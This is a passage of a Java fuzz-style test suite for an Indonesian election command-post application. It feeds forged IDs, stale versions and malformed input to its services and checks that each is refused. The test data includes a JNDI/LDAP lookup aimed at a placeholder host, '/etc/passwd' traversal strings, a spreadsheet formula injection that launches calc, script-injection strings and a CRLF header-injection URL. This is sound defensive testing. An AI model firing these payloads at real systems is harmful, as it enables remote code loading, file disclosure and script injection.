                        case 2 -> IssueService.MAX_ADDRESS;
                        case 3 -> IssueService.MAX_REPORTER;
                        default -> 10;
                    });
            String v = bad.value();
            String k = BadInputFixture.OWN_KELURAHAN;
            long cat = fx.category;
            IssueForm form = switch (field) {
                case 0 ->
                    new IssueForm(v, null, cat, Severity.SEDANG, null, null, k, null, null, IssueSource.POSKO, null);
                case 1 ->
                    new IssueForm(
                            "Judul uji", v, cat, Severity.SEDANG, null, null, k, null, null, IssueSource.POSKO, null);
                case 2 ->
                    new IssueForm(
                            "Judul uji", null, cat, Severity.SEDANG, null, null, k, null, v, IssueSource.POSKO, null);
                case 4 ->
                    new IssueForm(
                            "Judul uji", null, cat, Severity.SEDANG, null, null, k, v, null, IssueSource.POSKO, null);
                case 5 ->
                    new IssueForm(
                            "Judul uji",
                            null,
                            cat,
                            Severity.SEDANG,
                            null,
                            null,
                            v,
                            null,
                            null,
                            IssueSource.POSKO,
                            null);
                case 6 ->
                    new IssueForm(
                            "Judul uji",
                            null,
                            cat,
                            Severity.SEDANG,
                            null,
                            v,
                            null,
                            null,
                            null,
                            IssueSource.POSKO,
                            null);
                case 7 ->
                    new IssueForm(
                            "Judul uji",
                            null,
                            cat,
                            Severity.SEDANG,
                            v,
                            null,
                            null,
                            null,
                            null,
                            IssueSource.POSKO,
                            null);
                default ->
                    new IssueForm(
                            "Judul uji",
                            null,
                            cat,
                            Severity.SEDANG,
                            null,
                            null,
                            k,
                            null,
                            null,
                            IssueSource.POSKO,
                            null);
            };
            String reporter = field == 3 ? v : null;
            return bc(
                    bad.category(),
                    "field#" + field + " " + bad.label(),
                    h -> h.as(CHIEF, () -> h.bean(IssueService.class).file(form, reporter)));
        });
        // Issues: pickers left empty, ids of nothing, another post's place.
        service("IssueService.file", (r, n) -> {
            String k = BadInputFixture.OWN_KELURAHAN;
            IssueForm[] forms = {
                new IssueForm("Judul uji", null, fx.category, null, null, null, k, null, null, IssueSource.POSKO, null),
                new IssueForm("Judul uji", null, fx.category, Severity.SEDANG, null, null, k, null, null, null, null),
                new IssueForm(
                        "Judul uji",
                        null,
                        FORGED_IDS[r.nextInt(FORGED_IDS.length)],
                        Severity.SEDANG,
                        null,
                        null,
                        k,
                        null,
                        null,
                        IssueSource.POSKO,
                        null),
                new IssueForm(
                        "Judul uji",
                        null,
                        fx.category,
                        Severity.SEDANG,
                        null,
                        null,
                        null,
                        null,
                        null,
                        IssueSource.POSKO,
                        null),
                new IssueForm(
                        "Judul uji",
                        null,
                        fx.category,
                        Severity.SEDANG,
                        "31.71",
                        "31.72.01",
                        k,
                        null,
                        null,
                        IssueSource.POSKO,
                        null),
                new IssueForm(
                        "Judul uji",
                        null,
                        fx.category,
                        Severity.SEDANG,
                        null,
                        null,
                        BadInputFixture.OTHER_KELURAHAN,
                        null,
                        null,
                        IssueSource.POSKO,
                        null),
                new IssueForm(
                        "Judul uji",
                        null,
                        fx.category,
                        Severity.SEDANG,
                        null,
                        null,
                        k,
                        null,
                        null,
                        IssueSource.POSKO,
                        new int[] {-1, 0, 999, Integer.MIN_VALUE}[r.nextInt(4)]),
                new IssueForm(
                        null, null, fx.category, Severity.SEDANG, null, null, k, null, null, IssueSource.POSKO, null)
            };
            int i = r.nextInt(forms.length);
            String[] users = {CHIEF, CHIEF, "polda", "admin", "bakesbangpol"};
            String user = i == 5 ? CHIEF : users[r.nextInt(users.length)];
            return bc(
                    i <= 1 || i == 7 ? WRONG_TYPE : FORGED_ID,
                    "form#" + i + " as " + user,
                    h -> h.as(user, () -> h.bean(IssueService.class).file(forms[i], null)));
        });
        // Issues: the other post's issue, as the own chief; stale versions on the own issue.
        service("IssueService workflow", (r, n) -> {
            int action = r.nextInt(9);
            boolean forged = r.nextBoolean();
            long issue = forged ? fx.otherIssue : fx.ownIssue;
            long shift = forged ? 0 : new long[] {-1, 1, 1000, Long.MIN_VALUE}[r.nextInt(4)];
            Bad note = text(r, IssueService.MAX_TEXT);
            String user = forged
                    ? CHIEF
                    : new String[] {CHIEF, CHIEF, "polda", "petugas.jakpus", "bakesbangpol"}[r.nextInt(5)];
            return bc(
                    forged ? FORGED_ID : note.category(),
                    "action#" + action + (forged ? " on JAKUT" : " stale " + shift + " note " + note.label()) + " as "
                            + user,
                    h -> {
                        IssueService s = h.bean(IssueService.class);
                        long v = BadInputFixture.version(
                                        h.context, () -> s.issue(issue).version())
                                + shift;
                        return h.as(user, () -> switch (action) {
                            case 0 -> s.verify(issue, v);
                            case 1 -> s.refer(issue, v, fx.polda, note.value());
                            case 2 -> s.resolve(issue, v, note.value());
                            case 3 -> s.reject(issue, v, Rejection.values()[0], note.value());
                            case 4 -> s.escalate(issue, v, note.value());
                            case 5 -> s.edit(issue, v, fx.form(note.value(), BadInputFixture.OWN_KELURAHAN));
                            case 6 ->
                                s.transition(
                                        issue,
                                        v,
                                        IssueStatus.DITANGANI,
                                        FORGED_IDS[r.nextInt(FORGED_IDS.length)],
                                        null,
                                        null);
                            case 7 -> s.transition(issue, v, IssueStatus.DITOLAK, null, null, note.value());
                            default -> s.refer(issue, v, 999_999L, note.value());
                        });
                    });
        });
        // Issues: comments, acknowledgements and action reports with bad text or on others' issues.
        service("IssueService.comment/acknowledge/reportAction", (r, n) -> {
            int action = r.nextInt(3);
            Bad text = text(r, IssueService.MAX_TEXT);
            long issue =
                    new long[] {fx.ownIssue, fx.otherIssue, FORGED_IDS[r.nextInt(FORGED_IDS.length)]}[r.nextInt(3)];
            String user = action == 0 ? CHIEF : new String[] {"polda", "kodam", CHIEF}[r.nextInt(3)];
            return bc(
                    issue == fx.ownIssue ? text.category() : FORGED_ID,
                    "action#" + action + " issue " + issue + " " + text.label() + " as " + user,
                    h -> h.as(user, () -> switch (action) {
                        case 0 -> h.bean(IssueService.class).comment(issue, text.value());
                        case 1 -> h.bean(IssueService.class).acknowledge(issue, text.value());
                        default -> h.bean(IssueService.class).reportAction(issue, text.value());
                    }));
        });
        // Attachments through the form: bad names and contents, the other post's issue.
        service("AttachmentService.attach", (r, n) -> {
            Bad name = text(r, AttachmentService.MAX_FILE_NAME);
            byte[][] contents = {
                new byte[0],
                utf8("<script>alert(1)</script>"),
                utf8("%PDF"),
                new byte[] {(byte) 0xFF, (byte) 0xD8},
                BadInputFixture.PNG
            };
            int c = r.nextInt(contents.length);
            long issue = r.nextInt(3) == 0 ? fx.otherIssue : fx.ownIssue;
            return bc(
                    issue == fx.otherIssue ? FORGED_ID : c < 4 ? WRONG_CONTENT_TYPE : name.category(),
                    "content#" + c + " name " + name.label() + " issue " + issue,
                    h -> h.as(CHIEF, () -> h.bean(AttachmentService.class).attach(issue, name.value(), contents[c])));
        });
        // Attendance board: the other post's assignments, stale versions, bad notes, empty pickers.
        service("AttendanceService.mark/signOut/replace", (r, n) -> {
            boolean forged = r.nextInt(3) > 0;
            List<Long> pool = forged ? fx.otherAssignments : fx.ownAssignments;
            long assignment = pool.isEmpty() ? -1 : pool.get(r.nextInt(pool.size()));
            int action = r.nextInt(4);
            Bad note = text(r, 300);
            long shift = forged ? 0 : new long[] {-1, 7, 0}[r.nextInt(3)];
            AttendanceStatus status =
                    r.nextInt(5) == 0 ? null : AttendanceStatus.values()[r.nextInt(AttendanceStatus.values().length)];
            return bc(
                    forged ? FORGED_ID : note.category(),
                    "action#" + action + " assignment " + assignment + " " + note.label() + " status " + status
                            + " shift " + shift,
                    h -> {
                        long v = BadInputFixture.version(h.context, () -> version(h, assignment)) + shift;
                        AttendanceService s = h.bean(AttendanceService.class);
                        return h.as(CHIEF, () -> switch (action) {
                            case 0 -> s.mark(assignment, v, status, note.value());
                            case 1 -> s.signOut(assignment, v);
                            case 2 -> s.replace(assignment, v, forged ? fx.ownOfficer : fx.otherOfficer);
                            default -> s.mark(assignment, v, AttendanceStatus.PLANNED, note.value());
                        });
                    });
        });
        // QR sign-in: replayed, tampered, another post's, garbage.
        service("AttendanceService.signInWithCode", (r, n) -> {
            String used = fx.usedQrCode;
            String[] codes = {
                used,
                used,
                used + "x",
                used.substring(0, Math.max(0, used.length() - 2)),
                used.replace('a', 'b'),
                fx.otherPostQrCode,
                "",
                " ",
                "x".repeat(5000),
                "../../etc/passwd",
                "${jndi:ldap://evil.example/a}",
                "\u0000",
                "🗳",
                used.toUpperCase(java.util.Locale.ROOT),
                java.util.Base64.getUrlEncoder().encodeToString(utf8("JAKPUS|1|2024-01-01|0|sig"))
            };
            int i = r.nextInt(codes.length);
            return bc(
                    REPLAYED_TOKEN,
                    "code#" + i,
                    h -> fx.qrOfficer < 0
                            ? h.as(
                                    "petugas.jakut",
                                    () -> h.bean(AttendanceService.class).signInWithCode(codes[i]))
                            : h.asOfficer(
                                    fx.other,
                                    fx.qrOfficer,
                                    () -> h.bean(AttendanceService.class).signInWithCode(codes[i])));
        });
        // Roster: another post's shift or officer, days out of range, empty role picker, stale unassign.
        service("RosterService.assign/unassign/copyWeek", (r, n) -> {
            int action = r.nextInt(6);
            LocalDate[] days = {
                LocalDate.of(1900, 1, 1),
                LocalDate.of(9999, 12, 31),
                LocalDate.now().minusYears(3),
                fx.monday.plusDays(r.nextInt(7)),
                LocalDate.MIN
            };
            LocalDate day = days[r.nextInt(days.length)];
            PostRole role = r.nextInt(4) == 0 ? null : PostRole.values()[r.nextInt(PostRole.values().length)];
            long shift = r.nextBoolean() ? fx.otherShift : FORGED_IDS[r.nextInt(FORGED_IDS.length)];
            long officer = r.nextBoolean() ? fx.otherOfficer : fx.ownOfficer;
            List<Long> pool = fx.otherAssignments;
            long assignment = pool.isEmpty() ? -1 : pool.get(r.nextInt(pool.size()));
            return bc(
                    action < 2 && role == null ? WRONG_TYPE : FORGED_ID,
                    "action#" + action + " day " + day + " role " + role + " shift " + shift,
                    h -> {
                        RosterService s = h.bean(RosterService.class);
                        return h.as(CHIEF, () -> switch (action) {
                            case 0 -> s.assign(shift, day, officer, role);
                            case 1 ->
                                s.assign(fx.ownShift, day, fx.otherOfficer, role == null ? PostRole.values()[0] : role);
                            case 2 ->
                                s.assignAll(List.of(
                                        new RosterService.Placement(
                                                fx.ownShift, fx.monday, fx.ownOfficer, PostRole.values()[0]),
                                        new RosterService.Placement(shift, day, officer, PostRole.values()[0])));
                            case 3 -> {
                                s.unassign(assignment, 0);
                                yield null;
                            }
                            case 4 -> s.copyWeek(fx.other, fx.monday, fx.monday.plusWeeks(1));
                            default -> s.copyWeek(fx.own, fx.monday.plusDays(1), day);
                        });
                    });
        });
        // Shifts: bad names, headcounts, times; another post's shift.
        service("ShiftService.create/update", (r, n) -> {
            int variant = r.nextInt(5);
            Bad name = text(r, 60);
            Map<PostRole, Integer> required = new EnumMap<>(PostRole.class);
            required.put(
                    PostRole.values()[0], new int[] {-1, 0, 51, Integer.MAX_VALUE, Integer.MIN_VALUE, 1}[r.nextInt(6)]);
            LocalTime start = LocalTime.of(7, 0);
            LocalTime end = r.nextBoolean() ? start : LocalTime.of(15, 0);
            Category category = variant == 0 ? name.category() : variant == 4 ? FORGED_ID : WRONG_TYPE;
            return bc(
                    category,
                    "variant " + variant + " name " + name.label() + " required " + required + " end " + end,
                    h -> {
                        ShiftService s = h.bean(ShiftService.class);
                        return h.as(CHIEF, () -> switch (variant) {
                            case 0 ->
                                s.create(
                                        fx.own,
                                        new ShiftForm(
                                                name.value(),
                                                start,
                                                LocalTime.of(15, 0),
                                                Map.of(PostRole.values()[0], 1)));
                            case 1 -> s.create(fx.own, new ShiftForm("Sif uji " + n, start, end, required));
                            case 2 -> s.create(fx.own, new ShiftForm("Sif uji " + n, null, end, Map.of()));
                            case 3 -> s.update(fx.ownShift, -1, new ShiftForm("Sif uji " + n, start, end, required));
                            default ->
                                s.update(
                                        fx.otherShift,
                                        0,
                                        new ShiftForm(
                                                "Sif curian",
                                                start,
                                                LocalTime.of(15, 0),
                                                Map.of(PostRole.values()[0], 1)));
                        });
                    });
        });
        // Devices: bad names and addresses; another post's device.
        service("DeviceService.register/edit/remove/reportStatus", (r, n) -> {
            int variant = r.nextInt(6);
            Bad text = text(r, variant == 4 ? DeviceService.MAX_NOTE : DeviceService.MAX_NAME);
            String[] urls = {
                "javascript:alert(1)",
                "file:///etc/passwd",
                "data:text/html,<script>alert(1)</script>",
                "ftp://kamera.local/snap.jpg",
                "http://",
                "http://" + "a".repeat(3000) + ".id/x",
                "http://a.id/x\r\nHost: b",
                "//kamera.local/snap.jpg",
                "http://[::1",
                "https://kamera.local/${jndi:ldap://x/a}",
                " ",
                "kamera"
            };
            String url = urls[r.nextInt(urls.length)];
            DeviceKind kind = r.nextInt(5) == 0 ? null : DeviceKind.values()[r.nextInt(DeviceKind.values().length)];
            return bc(
                    variant == 1 ? INJECTION : variant >= 3 && variant != 4 ? FORGED_ID : text.category(),
                    "variant " + variant + " " + text.label() + " url " + url + " kind " + kind,
                    h -> {
                        DeviceService s = h.bean(DeviceService.class);
                        return h.as(CHIEF, () -> switch (variant) {
                            case 0 -> s.register(new DeviceForm(fx.own, kind, text.value(), null, null));
                            case 1 ->
                                s.register(new DeviceForm(fx.own, DeviceKind.values()[0], "Kamera uji " + n, url, url));
                            case 2 ->
                                s.register(
                                        new DeviceForm(fx.other, DeviceKind.values()[0], "Kamera curian", null, null));
                            case 3 ->
                                s.edit(
                                        fx.otherDevice,
                                        new DeviceForm(fx.other, DeviceKind.values()[0], "Ganti", null, null),
                                        deviceVersion(h, fx.otherDevice));
                            case 4 -> s.reportStatus(fx.ownDevice, DeviceStatus.values()[0], text.value());
                            default -> {
                                s.remove(
                                        r.nextBoolean() ? fx.otherDevice : FORGED_IDS[r.nextInt(FORGED_IDS.length)], 0);
                                yield null;
                            }
                        });
                    });
        });
        // Media statements: bad titles and texts, related issues out of scope, wrong roles, forged ids.
        service("MediaService", (r, n) -> {
            int variant = r.nextInt(8);
            Bad text = text(
                    r,
                    variant == 1
                            ? MediaService.MAX_TEXT
                            : variant == 5 ? MediaService.MAX_NOTE : MediaService.MAX_TITLE);
            List<Long> related = switch (r.nextInt(4)) {
                case 0 -> List.of(fx.otherIssue);
                case 1 -> List.of(999_999_999L, -1L);
                case 2 ->
                    java.util.stream.LongStream.range(0, 21)
                            .map(i -> fx.ownIssue)
                            .boxed()
                            .toList();
                default -> List.of(0L);
            };
            Category category = variant <= 1 || variant == 5 ? text.category() : FORGED_ID;
            return bc(category, "variant " + variant + " " + text.label() + " related " + related.size(), h -> {
                MediaService s = h.bean(MediaService.class);
                return switch (variant) {
                    case 0 -> h.as(CHIEF, () -> s.create(new StatementForm(text.value(), "Isi", List.of())));
                    case 1 -> h.as(CHIEF, () -> s.create(new StatementForm("Judul", text.value(), List.of())));
                    case 2 -> h.as(CHIEF, () -> s.create(new StatementForm("Judul", "Isi", related)));
                    case 3 ->
                        h.as(
                                CHIEF,
                                () -> s.save(
                                        fx.otherStatement,
                                        statementVersion(h, fx.otherStatement),
                                        new StatementForm("Curian", "Isi", List.of())));
                    case 4 ->
                        h.as(
                                new String[] {"sekda", "admin", CHIEF}[r.nextInt(3)],
                                () -> s.approve(fx.ownStatement, statementVersion(h, fx.ownStatement)));
                    case 5 ->
                        h.as(
                                "bakesbangpol",
                                () -> s.sendBack(fx.ownStatement, statementVersion(h, fx.ownStatement), text.value()));
                    case 6 -> h.as(CHIEF, () -> s.publish(fx.ownStatement, statementVersion(h, fx.ownStatement)));
                    default ->
                        h.as(
                                CHIEF,
                                () -> s.correct(
                                        r.nextBoolean() ? fx.ownStatement : fx.publishedStatement,
                                        new StatementForm("", "", List.of())));
                };
            });
        });
        // Situation reports: another post's, due times off schedule, bad section texts and notes.
        service("ReportService", (r, n) -> {
            int variant = r.nextInt(7);
            Bad text = text(r, variant == 5 ? ReportService.MAX_NOTE : ReportService.MAX_SECTION);
            Instant[] dues = {
                Instant.EPOCH,
                Instant.parse("2999-01-01T00:00:00Z"),
                Instant.now().plusSeconds(3600 * 24 * 30),
                Instant.now().truncatedTo(java.time.temporal.ChronoUnit.HOURS).plusSeconds(60),
                Instant.now().minusSeconds(3600 * 24 * 400)
            };
            Instant due = dues[r.nextInt(dues.length)];
            Category category = variant == 2 || variant == 5 ? text.category() : FORGED_ID;
            return bc(category, "variant " + variant + " " + text.label() + " due " + due, h -> {
                ReportService s = h.bean(ReportService.class);
                ReportText t = new ReportText(text.value(), text.value(), "", "", "");
                return switch (variant) {
                    case 0 -> h.as(CHIEF, () -> s.start(fx.other, due));
                    case 1 -> h.as(CHIEF, () -> s.start(fx.own, due));
                    case 2 -> h.as(CHIEF, () -> s.save(fx.ownReport, reportVersion(h, fx.ownReport), t));
                    case 3 ->
                        h.as(CHIEF, () -> s.submit(fx.otherReport, reportVersion(h, fx.otherReport), ReportText.EMPTY));
                    case 4 -> h.as(CHIEF, () -> s.accept(fx.otherReport, reportVersion(h, fx.otherReport)));
                    case 5 ->
                        h.as(
                                "ketua.balaikota",
                                () -> s.sendBack(fx.ownReport, reportVersion(h, fx.ownReport), text.value()));
                    default ->
                        h.as(
                                CHIEF,
                                () -> s.correct(
                                        r.nextBoolean() ? fx.otherReport : FORGED_IDS[r.nextInt(FORGED_IDS.length)]));
                };
            });
        });
        // Journal: bad texts, times, another post, issues out of scope, empty category picker.
        service("JournalService.write/correct", (r, n) -> {
            int variant = r.nextInt(6);
            Bad text = text(r, JournalService.MAX_TEXT);
            Instant[] times = {
                Instant.now().plusSeconds(3600),
                Instant.now().minus(Duration.ofHours(13)),
                Instant.EPOCH,
                Instant.parse("9999-12-31T23:59:59Z"),
                Instant.now().minusSeconds(60)
            };
            Instant at = times[r.nextInt(times.length)];
            JournalCategory category = JournalCategory.values()[0];
            Category c = variant == 0 ? text.category() : variant == 1 || variant == 4 ? WRONG_TYPE : FORGED_ID;
            return bc(c, "variant " + variant + " " + text.label() + " at " + at, h -> {
                JournalService s = h.bean(JournalService.class);
                return h.as(CHIEF, () -> switch (variant) {
                    case 0 -> s.write(fx.own, new JournalForm(category, text.value(), null, null));
                    case 1 -> s.write(fx.own, new JournalForm(category, "Catatan uji", at, null));
                    case 2 -> s.write(fx.other, new JournalForm(category, "Catatan curian", null, null));
                    case 3 ->
                        s.write(
                                fx.own,
                                new JournalForm(
                                        category,
                                        "Catatan uji",
                                        null,
                                        r.nextBoolean() ? fx.otherIssue : FORGED_IDS[r.nextInt(FORGED_IDS.length)]));
                    case 4 -> s.write(fx.own, new JournalForm(null, "Catatan uji", null, null));
                    default ->
                        s.correct(
                                r.nextBoolean() ? fx.otherEntry : FORGED_IDS[r.nextInt(FORGED_IDS.length)],
                                new JournalForm(category, "Koreksi curian", null, null));
                });
            });
        });
        // Alert level: another post, bad reasons, stale versions, empty picker.
        service("PoskoService.changeAlertLevel", (r, n) -> {
            int variant = r.nextInt(4);
            Bad reason = text(r, PoskoService.MAX_REASON);
            AlertLevel level = AlertLevel.values()[r.nextInt(AlertLevel.values().length)];
            return bc(
                    variant == 0 ? reason.category() : variant == 1 ? FORGED_ID : WRONG_TYPE,
                    "variant " + variant + " " + reason.label() + " " + level,
                    h -> {
                        PoskoService s = h.bean(PoskoService.class);
                        return h.as(CHIEF, () -> switch (variant) {
                            case 0 -> s.changeAlertLevel(fx.own, level, reason.value(), tileVersion(h, fx.own));
                            case 1 -> s.changeAlertLevel(fx.other, level, "Alasan uji", tileVersion(h, fx.other));
                            case 2 -> s.changeAlertLevel(fx.own, level, "Alasan uji", tileVersion(h, fx.own) - 1);
                            default -> s.changeAlertLevel(fx.own, null, "Alasan uji", tileVersion(h, fx.own));
                        });
                    });
        });
        // Officers: bad NIPs, names, phones; another post; forged units.
        service("StaffService.create/update/setActive", (r, n) -> {
            int variant = r.nextInt(7);
            Bad text = text(r, variant == 0 ? 18 : variant == 1 ? StaffService.MAX_NAME : 20);
            long unit = unit(r);
            String nip = nip(n);
            return bc(
                    variant <= 2 ? text.category() : variant == 3 ? WRONG_TYPE : FORGED_ID,
                    "variant " + variant + " " + text.label(),
                    h -> {
                        StaffService s = h.bean(StaffService.class);
                        long polda = fx.polda;
                        return h.as(CHIEF, () -> switch (variant) {
                            case 0 ->
                                s.create(new OfficerForm(
                                        text.value(), "Petugas Uji", polda, PostRole.values()[1], null, fx.own, false));
                            case 1 ->
                                s.create(new OfficerForm(
                                        nip, text.value(), polda, PostRole.values()[1], null, fx.own, false));
                            case 2 ->
                                s.create(new OfficerForm(
                                        nip, "Petugas Uji", polda, PostRole.values()[1], text.value(), fx.own, false));
                            case 3 -> s.create(new OfficerForm(nip, "Petugas Uji", polda, null, null, fx.own, false));
                            case 4 ->
                                s.create(new OfficerForm(
                                        nip, "Petugas Uji", unit, PostRole.values()[1], null, fx.own, false));
                            case 5 ->
                                s.create(new OfficerForm(
                                        nip, "Petugas Curian", polda, PostRole.values()[1], null, fx.other, false));
                            default ->
                                r.nextBoolean()
                                        ? s.setActive(fx.otherOfficer, officerVersion(h, fx.otherOfficer), false)
                                        : s.update(
                                                fx.otherOfficer,
                                                officerVersion(h, fx.otherOfficer),
                                                new OfficerForm(
                                                        nip,
                                                        "Ganti",
                                                        polda,
                                                        PostRole.values()[1],
                                                        null,
                                                        fx.other,
                                                        false));
                        });
                    });
        });
        // Officer import: broken files, formula cells, other posts, oversize.
        service("StaffService.importOfficers", (r, n) -> {
            String header = "nip;nama;unit;peran;telepon;posko;aktif;cadangan\n";
            String[] files = {
                "",
                header,
                "nip,nama\n1,2\n",
                header + "=HYPERLINK(\"http://x\");Nama;POLDA;OPERATOR;;JAKPUS;ya;tidak\n",
                header + "199001012020011001;=cmd|' /C calc'!A0;POLDA;OPERATOR;;JAKPUS;ya;tidak\n",
                header + "199001012020011001;Nama;POLDA;OPERATOR;;JAKUT;ya;tidak\n",
                header + "199001012020011001;Nama;TIDAK_ADA;TERBANG;;JAKPUS;mungkin;tidak\n",
                header + "199001012020011001;Nama;POLDA;OPERATOR;;JAKPUS;ya\n",
                header + "\"199001012020011001;Nama;POLDA\n",
                "PK\u0003\u0004bukan xlsx",
                "\u0000\u0001\u0002\u0003",
                header + "199001012020011001;" + "N".repeat(200) + ";POLDA;OPERATOR;;JAKPUS;ya;tidak\n",
                header + "../../etc/passwd;${jndi:ldap://x/a};POLDA;OPERATOR;;JAKPUS;ya;tidak\n"
            };
            int i = r.nextInt(files.length + 2);
            byte[] content = i < files.length
                    ? utf8(files[i])
                    : i == files.length
                            ? utf8(header + "x;y;z\n".repeat(StaffService.MAX_IMPORT_ROWS + 1))
                            : new byte[StaffService.MAX_IMPORT_BYTES + 1];
            Category category = i >= files.length
                    ? OVERSIZED_BODY
                    : i == 5
                            ? FORGED_ID
                            : i >= 9 ? WRONG_CONTENT_TYPE : i == 3 || i == 4 || i == 12 ? INJECTION : MALFORMED_JSON;
            return bc(
                    category,
                    "file#" + i,
                    h -> h.as(CHIEF, () -> {
                        ImportResult result =
                                h.bean(StaffService.class).importOfficers(new ByteArrayInputStream(content));
                        return result.applied()
                                ? Outcome.accepted(false, 200)
                                : h.refusedWith(
                                        400,
                                        result.badRows().stream()
                                                .map(ImportResult.BadRow::messageKey)
                                                .toList());
                    }));
        });
        // Accounts: bad usernames, names, passwords; role and post that do not fit; stale versions.
        service("AccountService", (r, n) -> {
            int variant = r.nextInt(6);
            Bad text = text(r, variant == 0 ? 40 : variant == 1 ? 120 : 72);
            return bc(
                    variant <= 2 ? text.category() : variant == 3 ? WRONG_TYPE : FORGED_ID,
                    "variant " + variant + " " + text.label(),
                    h -> {
                        AccountService s = h.bean(AccountService.class);
                        String user = variant == 5 ? CHIEF : "admin";
                        return h.as(user, () -> switch (variant) {
                            case 0 -> s.create(new NewAccount(text.value(), "Nama Uji", Role.PETUGAS, fx.own, null));
                            case 1 -> s.create(new NewAccount("uji" + n, text.value(), Role.PETUGAS, fx.own, null));
                            case 2 -> {
                                // Never the admin's real password: refused before anything changes.
                                String fresh = text.value() + (r.nextBoolean() ? "é".repeat(40) : "");
                                s.changeOwnPassword(text.value(), fresh, fresh);
                                yield null;
                            }
                            case 3 ->
                                s.create(new NewAccount(
                                        "uji" + n,
                                        "Nama Uji",
                                        r.nextBoolean() ? Role.KETUA_POSKO : null,
                                        null,
                                        r.nextBoolean() ? null : 999_999L,
                                        r.nextBoolean() ? text.value() : null,
                                        r.nextBoolean() ? text.value() : null));
                            case 4 ->
                                r.nextBoolean()
                                        ? s.setEnabled(fx.otherAccount, false, accountVersion(h, fx.otherAccount) - 1)
                                        : s.linkOfficer(
                                                fx.otherAccount,
                                                FORGED_IDS[r.nextInt(FORGED_IDS.length)],
                                                accountVersion(h, fx.otherAccount));
                            default -> s.setEnabled(fx.otherAccount, false, accountVersion(h, fx.otherAccount));
                        });
                    });
        });
        // Wall rotation: out of range, empty, stale, not an admin.
        service("WallSettingsService.save", (r, n) -> {
            int[] seconds = {
                WallPlaylist.MIN_SECONDS - 1, WallPlaylist.MAX_SECONDS + 1, 0, -1, Integer.MIN_VALUE, Integer.MAX_VALUE
            };
            int variant = r.nextInt(6);
            int s = seconds[r.nextInt(seconds.length)];
            return bc(variant == 5 ? FORGED_ID : BOUNDARY_LENGTH, "variant " + variant + " value " + s, h -> {
                WallSettingsService settings = h.bean(WallSettingsService.class);
                WallPlaylist now = BadInputFixture.as(h.context, "admin", settings::playlist);
                WallPlaylist wanted = switch (variant) {
                    case 0 ->
                        new WallPlaylist(
                                List.of(new WallPlaylist.Panel(WallPanelKind.values()[0], true, s)),
                                now.postPass(),
                                now.postSeconds(),
                                now.silenceMinutes(),
                                now.version());
                    case 1 -> new WallPlaylist(now.panels(), now.postPass(), s, now.silenceMinutes(), now.version());
                    case 2 -> new WallPlaylist(now.panels(), now.postPass(), now.postSeconds(), s, now.version());
                    case 3 ->
                        new WallPlaylist(List.of(), false, now.postSeconds(), now.silenceMinutes(), now.version());
                    case 4 ->
                        new WallPlaylist(
                                now.panels(),
                                now.postPass(),
                                now.postSeconds(),
                                now.silenceMinutes(),
                                now.version() - 1);
                    default -> now;
                };
                return h.as(variant == 5 ? CHIEF : "admin", () -> settings.save(wanted));
            });
        });
        // Screens and clients: bad names; revoked, expired and unknown tokens.
        service("WallScreenService/IntegrationService", (r, n) -> {
            int variant = r.nextInt(5);
            Bad name = text(r, 120);
            String[] tokens = {
                fx.revokedScreenToken, fx.expiredScreenToken, "dpk_layar_tidakada", "", fx.apiToken, fx.revokedApiToken
            };
            String token = tokens[r.nextInt(tokens.length)];
            return bc(
                    variant >= 2 ? REPLAYED_TOKEN : name.category(),
                    "variant " + variant + " " + name.label(),
                    h -> switch (variant) {
                        case 0 ->
                            h.as("admin", () -> h.bean(WallScreenService.class).pair(name.value()));
                        case 1 ->
                            h.as("admin", () -> h.bean(IntegrationService.class).issue(name.value()));
                        case 2 -> {
                            WallScreenService.Status status =
                                    h.bean(WallScreenService.class).check(token);
                            yield status == WallScreenService.Status.ACTIVE
                                    ? Outcome.accepted(false, 200)
                                    : h.refusedWith(
                                            401,
                                            switch (status) {
                                                case EXPIRED -> "screen.token.expired";
                                                case REVOKED -> "screen.token.revoked";
                                                default -> "screen.token.invalid";
                                            });
                        }
                        case 3 ->
                            h.bean(WallScreenService.class).authenticate(token).isPresent()
                                    ? Outcome.accepted(false, 200)
                                    : h.refusedWith(401, "screen.token.invalid");
                        default ->
                            h.bean(IntegrationService.class).authenticate(token).isPresent()
                                            && !token.equals(fx.apiToken)
                                    ? Outcome.failed(false, 500, "a revoked or foreign token authenticated")
                                    : h.refusedWith(401, "api.token.missing");
                    });
        });
        // Elections: bad codes and names, absurd dates, not an admin.
        service("ElectionService.create/createExercise", (r, n) -> {
            int variant = r.nextInt(4);
            Bad text = text(r, variant == 0 ? ElectionService.MAX_CODE : ElectionService.MAX_NAME);
            LocalDate[] days = {LocalDate.of(1, 1, 1), LocalDate.of(9999, 12, 31), LocalDate.of(1900, 2, 28)};
            LocalDate day = days[r.nextInt(days.length)];
            return bc(
                    variant <= 1 ? text.category() : variant == 2 ? WRONG_TYPE : FORGED_ID,
                    "variant " + variant + " " + text.label() + " day " + day,
                    h -> {
                        ElectionService s = h.bean(ElectionService.class);
                        long from = BadInputFixture.as(
                                h.context, "admin", () -> s.all().getFirst().id());
                        return h.as(variant == 3 ? CHIEF : "admin", () -> switch (variant) {
                            case 0 ->
                                s.createExercise(
                                        from,
                                        text.value(),
                                        "Latihan uji",
                                        LocalDate.now().plusDays(30));
                            case 1 ->
                                s.createExercise(
                                        from,
                                        "LATIHAN-UJI-" + n,
                                        text.value(),
                                        LocalDate.now().plusDays(30));
                            case 2 ->
                                s.create(new ElectionService.NewElection(
                                        "UJI-" + n,
                                        "Uji",
                                        r.nextBoolean() ? "99" : "31",
                                        false,
                                        false,
                                        List.of(new StageInfo(1, "Tahap", day, day.minusDays(1), true))));
                            default ->
                                s.createExercise(
                                        from,
                                        "LATIHAN-CURIAN-" + n,
                                        "Curian",
                                        LocalDate.now().plusDays(30));
                        });
                    });
        });
        // Exercise scenario files: broken JSON, unknown posts and accounts, absurd times.
        service("ExerciseService.check", (r, n) -> {
            String[] files = {
                "",
                "{",
                "[]",
                "null",
                "{\"name\":\"x\"}",
                "{\"name\":\"x\",\"injects\":[]}",
                "{\"name\":\"x\",\"injects\":[{\"at\":\"-5m\",\"type\":\"ISSUE\",\"posko\":\"TIDAKADA\"}]}",
                "{\"name\":\"x\",\"injects\":[{\"at\":\"99999999h\",\"type\":\"TERBANG\"}]}",
                "{\"name\":" + jsonString(text(r, 200).value())
                        + ",\"injects\":[{\"at\":\"1m\",\"type\":\"ALERT\",\"posko\":\"JAKPUS\",\"level\":\"KIAMAT\"}]}",
                "{\"name\":\"x\",\"injects\":[{\"at\":1,\"type\":[]}]}",
                "{\"name\":\"x\",\"injects\":" + "[".repeat(2000) + "]".repeat(2000) + "}",
